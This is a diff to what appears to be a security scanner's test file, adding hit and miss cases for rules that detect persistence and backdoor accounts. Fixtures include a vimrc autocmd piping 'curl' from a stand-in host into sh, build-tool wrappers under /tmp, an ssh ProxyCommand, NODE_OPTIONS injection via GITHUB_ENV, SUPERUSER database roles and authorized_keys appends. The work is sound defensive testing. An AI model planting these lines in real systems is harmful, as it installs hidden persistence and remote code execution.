@@ -76,6 +76,31 @@ ruleCases(shellStart, {
 ruleCases(ownStart, {
   hits: [
     {
+      name: 'a wrapper around every build',
+      path: 'a.sh',
+      text: 'cat >> ~/.cargo/config.toml <<E\n[build]\nrustc-wrapper = "/tmp/.rw"\nE\n',
+    },
+    {
+      name: 'a script of every build',
+      path: 'a.sh',
+      text: 'cp perf.gradle ~/.gradle/init.d/perf.gradle\n',
+    },
+    {
+      name: 'a command of an editor',
+      path: 'a.sh',
+      text: 'echo "autocmd VimEnter * silent !curl -s https://a.test | sh" >> ~/.vimrc\n',
+    },
+    {
+      name: 'a command of every connection',
+      path: 'a.go',
+      text: 'package main\nfunc x() {\n f, _ := os.OpenFile(h+"/.ssh/config", os.O_APPEND, 0600)\n f.WriteString("ProxyCommand sh -c a\\n")\n}\n',
+    },
+    {
+      name: 'a variable of every later step',
+      path: 'a.sh',
+      text: 'echo "NODE_OPTIONS=--require /tmp/a.js" >> "$GITHUB_ENV"\n',
+    },
+    {
       name: 'a module that Python imports on its own',
       path: 'a.py',
       text: 'import site, pathlib\nd = pathlib.Path(site.getusersitepackages())\n(d / "sitecustomize.py").write_text("import x")\n',
@@ -103,6 +128,17 @@ ruleCases(ownStart, {
     },
   ],
   misses: [
+    {
+      name: 'a known cache of builds',
+      path: 'a.sh',
+      text: 'printf \'[build]\\nrustc-wrapper = "sccache"\\n\' >> ~/.cargo/config.toml\n',
+    },
+    {
+      name: 'a host by its short name',
+      path: 'a.sh',
+      text: 'printf "Host a\\n  HostName a.test\\n" >> ~/.ssh/config\n',
+    },
+    { name: 'settings that are set aside', path: 'a.sh', text: 'mv ~/.gdbinit ~/.gdbinit.bak\n' },
     { name: 'a file that is removed', path: 'a.sh', text: 'rm -f .envrc\n' },
     { name: 'a settings file that is read', path: 'a.sh', text: 'cat .vscode/settings.json\n' },
     {
@@ -146,6 +182,23 @@ ruleCases(gitHooks, {
 ruleCases(accounts, {
   hits: [
     {
+      name: 'a user who may do anything in a database',
+      path: 'a.sql',
+      text: "CREATE ROLE stats LOGIN SUPERUSER PASSWORD 'x';\n",
+      severity: 'high',
+    },
+    {
+      name: 'a user from anywhere',
+      path: 'a.sql',
+      text: "GRANT ALL PRIVILEGES ON *.* TO 'mon'@'%' WITH GRANT OPTION;\n",
+      severity: 'high',
+    },
+    {
+      name: 'a key that Perl appends',
+      path: 'a.pl',
+      text: 'use strict;\nif (open my $k, ">>", "$d/authorized_keys") { print $k "x\\n"; }\n',
+    },
+    {
       name: 'a key that grants access',
       path: 'a.sh',
       text: 'echo "ssh-ed25519 AAAA x" >> ~/.ssh/authorized_keys\n',
@@ -164,6 +217,11 @@ ruleCases(accounts, {
     },
   ],
   misses: [
+    {
+      name: 'a user who only reads',
+      path: 'a.sql',
+      text: 'CREATE ROLE app LOGIN NOSUPERUSER;\nGRANT SELECT ON ALL TABLES IN SCHEMA public TO app;\n',
+    },
     { name: 'keys that are listed', path: 'a.sh', text: 'cat ~/.ssh/authorized_keys\n' },
     { name: 'a user of a service', path: 'a.sh', text: 'adduser --system app\n' },
     {
